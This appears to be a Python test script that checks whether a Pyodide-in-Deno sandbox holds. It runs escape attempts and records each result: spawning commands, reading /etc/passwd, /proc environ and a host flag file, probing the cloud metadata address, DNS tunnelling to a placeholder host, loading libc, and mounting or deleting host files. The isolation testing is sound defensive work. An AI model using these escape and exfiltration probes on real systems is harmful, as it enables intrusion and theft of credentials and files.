# mypy: ignore-errors
"""What Python as WebAssembly can reach through the bridge to the runtime around it. Inside a sandbox only."""

from __future__ import annotations

import json
import os
import sys
import time

import js
from pyodide.code import run_js
from pyodide.ffi import run_sync

with open("/tree/arguments.json", encoding="utf-8") as file:
    ARGUMENTS = json.load(file)
ANSWERS = []
PERMISSIONS = ("read", "write", "net", "env", "run", "ffi", "sys", "import")


def attempt(name, tried, action, wants=lambda got: bool(got)):
    """Held when it raises, or gives nothing of what an attacker wants."""
    try:
        got = action()
        held, happened = not wants(got), f"gave {str(got)[:160]!r}"
    except BaseException as error:
        held, happened = True, f"{type(error).__name__}: {str(error).strip().splitlines()[-1:]}"
    tell(name, held, tried, happened)


def tell(name, held, tried, happened):
    """One answer."""
    ANSWERS.append(
        {"id": f"wasm.{name}", "held": held, "tried": tried[:290], "happened": str(happened)[:290]}
    )


def later(code):
    """The value of a promise, waited for."""
    return run_sync(run_js(f"(async () => {{ {code} }})()"))


def sub():
    import subprocess

    return subprocess.run(["id"], capture_output=True).stdout


def connect():
    import socket

    with socket.socket() as link:
        link.settimeout(1)
        link.connect(("192.0.2.1", 80))
        link.send(b"x")
        return link.recv(1)


FLAG = json.dumps(ARGUMENTS["flag"])
attempt("command.subprocess", "subprocess.run(['id'])", sub)
attempt("command.fork", "os.fork()", lambda: os.fork() > 0)
attempt(
    "command.deno-command",
    "js.Deno.Command('id')",
    lambda: run_js("new Deno.Command('/usr/bin/id').outputSync().code === 0"),
)
attempt(
    "command.node-child",
    "import('node:child_process')",
    lambda: later("return (await import('node:child_process')).execSync('id').toString()"),
)
attempt(
    "command.worker",
    "a Worker with every permission",
    lambda: later(
        "return await new Promise((yes, no) => { const w = new Worker('data:text/javascript,' + encodeURIComponent("
        "\"postMessage(Deno.readTextFileSync('/etc/passwd'))\"), {type: 'module'});"
        " w.onmessage = (e) => yes(e.data); w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); }; setTimeout(() => no(new Error('silence')), 1500); })"
    ),
)
states = {name: str(run_js(f"Deno.permissions.querySync({{name: {name!r}}}).state")) for name in PERMISSIONS}
tell(
    "privilege.permissions",
    "granted" not in states.values(),
    "Deno.permissions.query",
    ", ".join(f"{k} {v}" for k, v in states.items()),
)
attempt(
    "privilege.request",
    "Deno.permissions.request",
    lambda: [
        n
        for n in PERMISSIONS
        if str(run_js(f"Deno.permissions.requestSync({{name: {n!r}}}).state")) == "granted"
    ],
)
attempt(
    "privilege.native-code",
    "Deno.dlopen of the C library",
    lambda: (
        run_js("Deno.dlopen('libc.so.6', {getuid: {parameters: [], result: 'u32'}}).symbols.getuid()")
        is not None
    ),
)
attempt(
    "privilege.constructor",
    "JsProxy.constructor.constructor('...')()",
    lambda: js.Object.new().constructor.constructor("return Deno.readTextFileSync('/etc/passwd')")(),
)
attempt("privilege.eval", "js.eval", lambda: js.eval("Deno.readTextFileSync('/etc/passwd')"))
attempt(
    "privilege.binding",
    "process.binding('fs')",
    lambda: later(
        "return (await import('node:process')).default.binding('fs').open('/etc/passwd', 0, 0) > 0"
    ),
)
attempt(
    "privilege.load-binary",
    "pyodide_js._api.loadBinaryFile",
    lambda: later(
        "const m = await import('/opt/wasm/pyodide/pyodide.mjs'); return m ? Deno.readFileSync('/opt/wasm/snapshot.bin').length : 0"
    ),
)
attempt(
    "privilege.ctypes", "ctypes and a system call", lambda: __import__("ctypes").CDLL(None).syscall(39) > 1
)
attempt("network.socket", "socket.connect to 192.0.2.1:80", connect)
for name, url in (
    ("fetch", "http://192.0.2.1/"),
    ("metadata", "http://169.254.169.254/latest/meta-data/"),
    ("private", "http://10.0.0.1/"),
    ("host", f"http://127.0.0.1:{ARGUMENTS['host_port']}/"),
):
    attempt(
        f"network.{name}",
        f"fetch {url}",
        lambda url=url: later(f"return (await fetch({url!r}, {{signal: AbortSignal.timeout(1500)}})).status"),
    )
attempt(
    "network.tcp",
    "Deno.connect",
    lambda: later("return (await Deno.connect({hostname: '192.0.2.1', port: 80})).rid !== undefined"),
)
attempt("network.listen", "Deno.listen", lambda: run_js("Deno.listen({port: 0}).addr.port > 0"))
attempt(
    "network.dns",
    "Deno.resolveDns of a name that carries data",
    lambda: later("return (await Deno.resolveDns('00ff.tunnel.example', 'A')).length"),
)
attempt(
    "network.node",
    "node:net",
    lambda: later(
        "const net = await import('node:net'); return await new Promise((yes, no) => { const s = net.connect(80, '192.0.2.1', () => yes(1)); s.on('error', no); setTimeout(() => no(new Error('silence')), 1500); })"
    ),
)
attempt("leak.environment", "Deno.env", lambda: run_js("Object.keys(Deno.env.toObject()).join()"))
extra = sorted(
    set(os.environ)
    - {
        "HOME",
        "LD_LIBRARY_PATH",
        "LANG",
        "USER",
        "LOGNAME",
        "PATH",
        "PWD",
        "_",
        "PYTHONINSPECT",
        "PYTHONHASHSEED",
        "SHLVL",
        "LC_ALL",
    }
)
tell("leak.python-environment", not extra, "os.environ", ", ".join(extra) or "its own few names")
attempt(
    "leak.flag-file", "the host's flag file, by Python and by Deno", lambda: open(ARGUMENTS["flag"]).read()
)
attempt(
    "leak.flag-file-deno", "the host's flag file by Deno", lambda: run_js(f"Deno.readTextFileSync({FLAG})")
)
attempt(
    "leak.passwd",
    "/etc/passwd by Deno and by node:fs",
    lambda: later("return (await import('node:fs')).readFileSync('/etc/passwd', 'utf8')"),
)
attempt(
    "leak.proc", "/proc/self/environ by Deno", lambda: run_js("Deno.readTextFileSync('/proc/self/environ')")
)
attempt("leak.host-name", "Deno.hostname", lambda: run_js("Deno.hostname()"))
attempt("leak.interfaces", "Deno.networkInterfaces", lambda: run_js("Deno.networkInterfaces().length"))
attempt("leak.memory", "Deno.systemMemoryInfo", lambda: run_js("Deno.systemMemoryInfo().total"))
attempt(
    "leak.program",
    "Deno.execPath, for a path of the host's",
    lambda: str(run_js("Deno.execPath()")),
    lambda got: got != "/opt/deno",
)
attempt(
    "write.file",
    "Deno.writeTextFile to /tmp, /work and the host's folder",
    lambda: run_js(
        f"for (const p of ['/tmp/x', '/work/x', {json.dumps(ARGUMENTS['host_folder'] + '/x')}]) Deno.writeTextFileSync(p, 'x'); 1"
    ),
)
attempt(
    "write.remove",
    "Deno.remove of the tree",
    lambda: run_js("Deno.removeSync('/work/tree/arguments.json'); 1"),
)
attempt(
    "write.node",
    "node:fs writeFileSync",
    lambda: later("(await import('node:fs')).writeFileSync('/tmp/x', 'x'); return 1"),
)
attempt(
    "write.mount",
    "Pyodide's FS.mount of the host's folders",
    lambda: later(
        "const api = globalThis.pyodide?._module ?? globalThis.Module; api.FS.mount(api.FS.filesystems.NODEFS, {root: '/'}, '/mnt'); return api.FS.readdir('/mnt').length"
    ),
)
try:
    with open("/etc/gate-isolation", "w") as out:
        out.write("x")
    tell(
        "write.memory",
        run_js("globalThis.Deno !== undefined") and sys.platform == "emscripten",
        "write /etc/gate-isolation",
        "it lies in the interpreter's memory; the host looks for it",
    )
except OSError as error:
    tell("write.memory", True, "write /etc/gate-isolation", error)
marks = [path for path in ("/tmp/mark", "/home/mark", "/tree/mark") if os.path.exists(path)]
tell("after.files", not marks, "marks that the run before left", marks or "none")
for path in ("/tmp/mark", "/tree/mark"):
    with open(path, "w") as out:
        out.write("x")
tell(
    "technology.platform",
    sys.platform == "emscripten",
    "sys.platform, Deno.version",
    f"{sys.platform}, Python {sys.version.split()[0]}, {run_js('JSON.stringify(Deno.version)')}",
)
tell(
    "technology.threads",
    not getattr(sys, "_emscripten_info", None) or not sys._emscripten_info.pthreads,
    "threads in sys._emscripten_info",
    getattr(sys, "_emscripten_info", "?"),
)
print("\n" + json.dumps({"answers": ANSWERS, "at": time.time()}))
